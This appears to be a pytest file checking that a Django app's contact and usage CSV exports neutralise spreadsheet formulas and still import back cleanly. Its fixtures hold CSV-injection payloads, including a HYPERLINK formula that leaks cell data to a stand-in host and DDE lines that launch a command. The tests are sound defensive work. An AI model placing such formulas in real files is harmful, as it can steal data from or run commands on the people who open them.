"""No CSV Mifumo hands out makes a spreadsheet run a formula: a cell starting with =, +, -, @,
a tab or a carriage return is prefixed with ' (OWASP's CSV injection advice), numbers such
as phone numbers stay as they are, and an export imports back unchanged."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.contrib.auth import get_user_model
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from contacts.models import Contact
from contacts.services import contact_create
from integration.members import membership_add
from integration.models import Account, ApiRequestLog
from mifumo.csv_cells import neutralise, restore
from tests.helpers import Api, assert_envelope

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1, "x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_formula_becomes_text(value: str) -> None:
    assert neutralise(value) == "'" + value
    assert restore(neutralise(value)) == value


@pytest.mark.parametrize("value", ["+255712345678", "-12.50", "12", "Asha", "", "'quoted"])
def test_numbers_and_plain_text_are_left_alone(value: str) -> None:
    assert neutralise(value) == value
    assert restore(value) == value


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_the_contacts_export_neutralises_formulas_and_imports_back(
    alice: Account, bob: Account, api: Api, api_for: Any
) -> None:
    for n, formula in enumerate(FORMULAS):
        contact_create(
            account=alice,
            name=formula,
            phone_number=f"+2557120000{n:02d}",
            email=f"a{n}@example.com",
            tags=["vip"],
        )
    stored = list(Contact.objects.filter(account=alice).order_by("created_at", "id"))
    exported = api.get("contacts/export/").getvalue()
    rows = _rows(exported.decode())
    names = [row[0] for row in rows[1:]]
    assert names == ["'" + contact.name for contact in stored]
    # Phone numbers are numbers, not formulas: kept as they are.
    assert {row[1][:4] for row in rows[1:]} == {"+255"}

    upload = SimpleUploadedFile("contacts.csv", exported, content_type="text/csv")
    imported = api_for(bob).client.post(
        "/api/integration/v1/contacts/import/", {"file": upload}, format="multipart"
    )
    assert assert_envelope(imported, 200)["data"]["created"] == len(FORMULAS)
    # Imports trim names, as they always have.
    assert sorted(Contact.objects.filter(account=bob).values_list("name", flat=True)) == sorted(
        contact.name.strip() for contact in stored
    )


def test_the_dashboard_usage_export_neutralises_formulas(alice: Account) -> None:
    owner = get_user_model().objects.create_user(username="asha", password="x")
    membership_add(user=owner, account=alice, role="owner")
    owner_client = Client()
    owner_client.force_login(owner)
    ApiRequestLog.objects.create(
        account=alice,
        method="GET",
        route='=HYPERLINK("http://evil.example")',
        status_code=404,
        latency_ms=1.0,
    )
    response = owner_client.get("/api/integration/dashboard/usage/export.csv?table=endpoints")
    text = b"".join(response.streaming_content).decode()  # type: ignore[attr-defined]
    routes = [row[1] for row in _rows(text)[1:]]
    assert routes == ['\'=HYPERLINK("http://evil.example")']
